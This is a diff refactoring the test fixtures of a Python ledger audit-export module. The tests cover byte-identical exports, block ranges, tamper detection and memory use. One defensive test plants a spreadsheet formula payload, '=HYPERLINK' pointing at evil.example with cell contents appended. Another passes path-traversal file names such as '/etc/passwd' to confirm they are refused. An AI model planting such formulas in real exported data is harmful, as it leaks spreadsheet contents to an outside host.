@@ -8,6 +8,7 @@ import io
 import json
 import sys
 from collections.abc import Callable
+from dataclasses import replace
 from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
@@ -15,7 +16,7 @@ from typing import Any
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
-from sqlalchemy import Engine, func, insert, select
+from sqlalchemy import func, insert, select
 
 from ledger.audit.errors import BadManifest, NoParquet, NotIndexedYet, UnknownTable
 from ledger.audit.export import (
@@ -37,7 +38,7 @@ from ledger.store.model.chain import EVENTS, blocks
 from ledger.store.model.orders import ORDERS, PAYMENTS
 from ledger.store.model.parties import PARTIES
 from ledger.types import BlockNumber, TokenAmount
-from scripts.bench.gas_orders import Bench
+from tests.ledger.conftest import Indexed, index
 
 TEXTS = (Format.CSV, Format.JSONL)
 
@@ -55,22 +56,22 @@ def lines(folder: Path, table: str) -> list[dict[str, Any]]:
 
 @pytest.mark.parametrize("format", Format)
 def test_both_databases_give_the_same_bytes(
-    format: Format, read_model: Engine, postgres_model: Engine, rich: Bench, tmp_path: Path
+    format: Format, indexed: Indexed, indexed_by_postgres: Indexed, tmp_path: Path
 ) -> None:
     if format is Format.PARQUET:
         pytest.importorskip("pyarrow")
-    height = BlockNumber(rich.deployment.block_number + 300)
+    height = BlockNumber(indexed.deployment.block_number + 300)
     for last in (None, height):
         one, other = tmp_path / f"one{last}", tmp_path / f"other{last}"
-        export(read_model, rich.deployment, one, format, last=last)
-        export(postgres_model, rich.deployment, other, format, last=last)
+        export(indexed.engine, indexed.deployment, one, format, last=last)
+        export(indexed_by_postgres.engine, indexed.deployment, other, format, last=last)
         assert digests(one) == digests(other)
         assert len(digests(one)) == len(TABLES) + 1 and not check_export(one)
 
 
-def test_every_table_is_there_with_every_row(read_model: Engine, rich: Bench, tmp_path: Path) -> None:
-    done = export(read_model, rich.deployment, tmp_path, Format.JSONL)
-    with read_model.connect() as connection:
+def test_every_table_is_there_with_every_row(indexed: Indexed, tmp_path: Path) -> None:
+    done = export(indexed.engine, indexed.deployment, tmp_path, Format.JSONL)
+    with indexed.engine.connect() as connection:
         for one in done.manifest.tables:
             table = TABLES[one.table].table
             assert one.rows == connection.execute(select(func.count()).select_from(table)).scalar_one()
@@ -80,12 +81,12 @@ def test_every_table_is_there_with_every_row(read_model: Engine, rich: Bench, tm
 
 
 @pytest.mark.parametrize("format", TEXTS)
-def test_values_are_the_rows_exactly(format: Format, read_model: Engine, rich: Bench, tmp_path: Path) -> None:
+def test_values_are_the_rows_exactly(format: Format, indexed: Indexed, tmp_path: Path) -> None:
     """Read back by other readers, and compared with what the database gives."""
-    export(read_model, rich.deployment, tmp_path, format)
+    export(indexed.engine, indexed.deployment, tmp_path, format)
     read = read_csv if format is Format.CSV else lines
     for name, table in TABLES.items():
-        with read_model.connect() as connection:
+        with indexed.engine.connect() as connection:
             keys = list(table.table.primary_key.columns)
             rows = connection.execute(select(table.table).order_by(*keys)).all()
         found = read(tmp_path, name)
@@ -138,10 +139,10 @@ def shown(value: Any, column: ExportColumn) -> Any:
     return value
 
 
-def test_parquet_holds_the_same(read_model: Engine, rich: Bench, tmp_path: Path) -> None:
+def test_parquet_holds_the_same(indexed: Indexed, tmp_path: Path) -> None:
     parquet = pytest.importorskip("pyarrow.parquet")
-    export(read_model, rich.deployment, tmp_path / "p", Format.PARQUET)
-    export(read_model, rich.deployment, tmp_path / "j", Format.JSONL)
+    export(indexed.engine, indexed.deployment, tmp_path / "p", Format.PARQUET)
+    export(indexed.engine, indexed.deployment, tmp_path / "j", Format.JSONL)
     for name, table in TABLES.items():
         found = parquet.read_table(tmp_path / "p" / f"{name}.parquet")
         for row, told in zip(found.to_pylist(), lines(tmp_path / "j", name), strict=True):
@@ -155,8 +156,8 @@ def test_parquet_holds_the_same(read_model: Engine, rich: Bench, tmp_path: Path)
 # ------------------------------------------------------------------------------------ which blocks
 
 
-def test_versions_are_those_that_held_in_the_blocks(read_model: Engine, rich: Bench, tmp_path: Path) -> None:
-    with read_model.connect() as connection:
+def test_versions_are_those_that_held_in_the_blocks(indexed: Indexed, tmp_path: Path) -> None:
+    with indexed.engine.connect() as connection:
         low, high = connection.execute(select(func.min(blocks.c.number), func.max(blocks.c.number))).one()
         rows = [row._mapping for row in connection.execute(select(ORDERS.table))]
         paid = list(connection.execute(select(PAYMENTS.table.c.block_number)).scalars())
@@ -169,7 +170,7 @@ def test_versions_are_those_that_held_in_the_blocks(read_model: Engine, rich: Be
         (None, low + 70),
     ):
         export(
-            *(read_model, rich.deployment, tmp_path, Format.JSONL),
+            *(indexed.engine, indexed.deployment, tmp_path, Format.JSONL),
             tables=[TABLES["production_order"], TABLES["payment"]],
             first=first,
             last=last,
@@ -187,22 +188,12 @@ def test_versions_are_those_that_held_in_the_blocks(read_model: Engine, rich: Be
         assert happened == sorted(block for block in paid if (first or 0) <= block <= last)
 
 
-def test_a_span_is_the_same_however_far_the_database_goes(
-    read_model: Engine, rich: Bench, tmp_path: Path
-) -> None:
+def test_a_span_is_the_same_however_far_the_database_goes(indexed: Indexed, tmp_path: Path) -> None:
     """An auditor's export of last month's end is the same next month."""
-    from ledger.indexer import Indexer
-    from ledger.store import migrate, open_engine
-
-    last = BlockNumber(rich.deployment.block_number + 150)
-    shorter = open_engine(tmp_path / "shorter.sqlite")
-    migrate(shorter)
-    indexer = Indexer(shorter, rich.node, rich.deployment, until=last)
-    indexer.catch_up()
-    indexer.close()
-    export(shorter, rich.deployment, tmp_path / "then", Format.CSV)
-    export(read_model, rich.deployment, tmp_path / "now", Format.CSV, last=last)
-    shorter.dispose()
+    last = BlockNumber(indexed.deployment.block_number + 150)
+    with index(indexed.bench, tmp_path / "shorter.sqlite", until=last) as shorter:
+        export(shorter.engine, shorter.deployment, tmp_path / "then", Format.CSV)
+    export(indexed.engine, indexed.deployment, tmp_path / "now", Format.CSV, last=last)
     assert digests(tmp_path / "then") == digests(tmp_path / "now")
 
 
@@ -269,31 +260,31 @@ def test_any_text_and_number_survives_parquet(rows: list[tuple[Any, ...]]) -> No
             assert int(told["time_utc"].timestamp()) == told["time"]
 
 
-def test_a_profile_that_is_a_formula(copied: Engine, rich: Bench, tmp_path: Path) -> None:
+def test_a_profile_that_is_a_formula(copied: Indexed, tmp_path: Path) -> None:
     hostile = '=HYPERLINK("https://evil.example?"&A1,"x")\n,\u202e'
-    with writing(copied) as connection:
+    with writing(copied.engine) as connection:
         connection.execute(PARTIES.table.update().values(uri=hostile))
     for format in TEXTS:
-        export(copied, rich.deployment, tmp_path, format, [TABLES["party"]])
+        export(copied.engine, copied.deployment, tmp_path, format, [TABLES["party"]])
     assert {row["uri"] for row in read_csv(tmp_path, "party")} == {hostile}
     assert b"'=HYPERLINK" in (tmp_path / "party.csv").read_bytes()
     assert {row["uri"] for row in lines(tmp_path, "party")} == {hostile}
 
 
-def test_amounts_of_78_digits(copied: Engine, rich: Bench, tmp_path: Path) -> None:
+def test_amounts_of_78_digits(copied: Indexed, tmp_path: Path) -> None:
     most = TokenAmount(2**256 - 1)
-    with writing(copied) as connection:
+    with writing(copied.engine) as connection:
         connection.execute(PAYMENTS.table.update().values(to_maker=most))
-    export(copied, rich.deployment, tmp_path, Format.JSONL, [TABLES["payment"]])
+    export(copied.engine, copied.deployment, tmp_path, Format.JSONL, [TABLES["payment"]])
     assert {row["to_maker"] for row in lines(tmp_path, "payment")} == {str(most)}
 
 
-def test_an_empty_table_is_a_header(copied: Engine, rich: Bench, tmp_path: Path) -> None:
-    with writing(copied) as connection:
+def test_an_empty_table_is_a_header(copied: Indexed, tmp_path: Path) -> None:
+    with writing(copied.engine) as connection:
         connection.execute(PAYMENTS.table.delete())
     formats = [*TEXTS, *([Format.PARQUET] if "pyarrow" in sys.modules else [])]
     for format in formats:
-        done = export(copied, rich.deployment, tmp_path, format, [TABLES["payment"]])
+        done = export(copied.engine, copied.deployment, tmp_path, format, [TABLES["payment"]])
         assert [one.rows for one in done.manifest.tables] == [0] and not check_export(tmp_path)
     assert (tmp_path / "payment.csv").read_text().count("\n") == 1
     assert (tmp_path / "payment.jsonl").read_text() == ""
@@ -304,9 +295,9 @@ def test_an_empty_table_is_a_header(copied: Engine, rich: Bench, tmp_path: Path)
 
 @pytest.mark.parametrize("error", [KeyboardInterrupt, RuntimeError])
 def test_what_was_stopped_leaves_what_was_there(
-    error: type[BaseException], read_model: Engine, rich: Bench, tmp_path: Path
+    error: type[BaseException], indexed: Indexed, tmp_path: Path
 ) -> None:
-    export(read_model, rich.deployment, tmp_path, Format.CSV, last=BlockNumber(100))
+    export(indexed.engine, indexed.deployment, tmp_path, Format.CSV, last=BlockNumber(100))
     before = digests(tmp_path)
 
     def stop(table: str, done: int, of: int) -> None:
@@ -314,32 +305,30 @@ def test_what_was_stopped_leaves_what_was_there(
             raise error
 
     with pytest.raises(error):
-        export(read_model, rich.deployment, tmp_path, Format.CSV, progress=stop)
+        export(indexed.engine, indexed.deployment, tmp_path, Format.CSV, progress=stop)
     assert digests(tmp_path) == before
 
 
-@pytest.mark.parametrize("model", ["copied", "postgres_copy"])
+@pytest.mark.parametrize("model", ["copied", "copied_by_postgres"])
 def test_what_others_write_meanwhile_is_not_in_it(
-    model: str, read_model: Engine, rich: Bench, tmp_path: Path, request: pytest.FixtureRequest
+    model: str, indexed: Indexed, tmp_path: Path, request: pytest.FixtureRequest
 ) -> None:
-    mine: Engine = request.getfixturevalue(model)
+    mine: Indexed = request.getfixturevalue(model)
     done: list[str] = []
 
     def reorg(table: str, number: int, of: int) -> None:
         if not done:
-            with writing(mine) as connection:
+            with writing(mine.engine) as connection:
                 for one in TABLES.values():
                     connection.execute(one.table.delete())
             done.append(table)
 
-    export(mine, rich.deployment, tmp_path / "mine", Format.JSONL, progress=reorg)
-    export(read_model, rich.deployment, tmp_path / "same", Format.JSONL)
+    export(mine.engine, mine.deployment, tmp_path / "mine", Format.JSONL, progress=reorg)
+    export(indexed.engine, indexed.deployment, tmp_path / "same", Format.JSONL)
     assert done and digests(tmp_path / "mine") == digests(tmp_path / "same")
 
 
-def test_memory_stays_flat(
-    copied: Engine, rich: Bench, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
+def test_memory_stays_flat(copied: Indexed, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     """No more rows are held at a time than a piece has."""
     most: list[int] = []
 
@@ -350,12 +339,12 @@ def test_memory_stays_flat(
 
     monkeypatch.setattr(module, "AT_ONCE", 100)
     monkeypatch.setitem(module._WRITERS, Format.JSONL, Counting)
-    with writing(copied) as connection:
+    with writing(copied.engine) as connection:
         row = connection.execute(select(EVENTS.table)).mappings().first()
         assert row is not None
         many = [{**row, "log_index": 10_000 + n} for n in range(5_000)]
         connection.execute(insert(EVENTS.table), many)
-    done = export(copied, rich.deployment, tmp_path, Format.JSONL, [TABLES["event"]])
+    done = export(copied.engine, copied.deployment, tmp_path, Format.JSONL, [TABLES["event"]])
     assert done.rows > 5_000 and max(most) == 100
 
 
@@ -387,29 +376,26 @@ def _swap(folder: Path) -> str:
 
 
 @pytest.mark.parametrize("alter", [_remove, _lengthen, _flip, _swap])
-def test_what_differs_is_named(
-    alter: Callable[[Path], str], read_model: Engine, rich: Bench, tmp_path: Path
-) -> None:
-    export(read_model, rich.deployment, tmp_path, Format.CSV, [TABLES["payment"], TABLES["withdrawal"]])
+def test_what_differs_is_named(alter: Callable[[Path], str], indexed: Indexed, tmp_path: Path) -> None:
+    tables = [TABLES["payment"], TABLES["withdrawal"]]
+    export(indexed.engine, indexed.deployment, tmp_path, Format.CSV, tables)
     assert check_export(tmp_path) == check_export(tmp_path / MANIFEST) == []
     (found,) = (alter(tmp_path), check_export(tmp_path))[1:]
     assert len(found) == 1 and found[0].startswith("payment.csv")
 
 
-def test_the_manifest_says_whose_and_as_of_when(read_model: Engine, rich: Bench, tmp_path: Path) -> None:
-    export(read_model, rich.deployment, tmp_path, Format.CSV, [TABLES["payment"]])
+def test_the_manifest_says_whose_and_as_of_when(indexed: Indexed, tmp_path: Path) -> None:
+    export(indexed.engine, indexed.deployment, tmp_path, Format.CSV, [TABLES["payment"]])
     manifest = read_manifest(tmp_path)
-    block = rich.node.get_block(BlockNumber(manifest.as_of.number))
+    block = indexed.node.get_block(BlockNumber(manifest.as_of.number))
     assert manifest.as_of.hash == "0x" + block.hash.hex()
-    assert manifest.deployment.contracts["OrderEscrow"] == rich.escrow.address
+    assert manifest.deployment.contracts["OrderEscrow"] == indexed.bench.escrow.address
     assert manifest.tables[0].order == ("block_number", "log_index")
 
 
 @pytest.mark.parametrize("name", ["../payment.csv", "/etc/passwd", "", ".", "a\\b"])
-def test_a_manifest_that_reads_elsewhere_is_refused(
-    name: str, read_model: Engine, rich: Bench, tmp_path: Path
-) -> None:
-    export(read_model, rich.deployment, tmp_path, Format.CSV, [TABLES["payment"]])
+def test_a_manifest_that_reads_elsewhere_is_refused(name: str, indexed: Indexed, tmp_path: Path) -> None:
+    export(indexed.engine, indexed.deployment, tmp_path, Format.CSV, [TABLES["payment"]])
     raw = json.loads((tmp_path / MANIFEST).read_text())
     raw["tables"][0]["file"] = name
     (tmp_path / MANIFEST).write_text(json.dumps(raw))
@@ -433,20 +419,16 @@ def test_a_table_that_is_not_there() -> None:
         table_named("payments")
 
 
-def test_parquet_without_pyarrow(
-    read_model: Engine, rich: Bench, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
+def test_parquet_without_pyarrow(indexed: Indexed, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setitem(sys.modules, "pyarrow", None)
     with pytest.raises(NoParquet, match=r"tallystick\[analysis\]"):
-        export(read_model, rich.deployment, tmp_path, Format.PARQUET)
+        export(indexed.engine, indexed.deployment, tmp_path, Format.PARQUET)
     assert list(tmp_path.iterdir()) == []
 
 
-def test_another_deployments_history(read_model: Engine, rich: Bench, tmp_path: Path) -> None:
-    from dataclasses import replace
-
-    other: Deployment = replace(rich.deployment, chain_id=7)
+def test_another_deployments_history(indexed: Indexed, tmp_path: Path) -> None:
+    other: Deployment = replace(indexed.deployment, chain_id=7)
     with pytest.raises(OtherHistory):
-        export(read_model, other, tmp_path, Format.CSV)
+        export(indexed.engine, other, tmp_path, Format.CSV)
     with pytest.raises(NotIndexedYet):
-        export(read_model, rich.deployment, tmp_path, Format.CSV, last=BlockNumber(10**9))
+        export(indexed.engine, indexed.deployment, tmp_path, Format.CSV, last=BlockNumber(10**9))
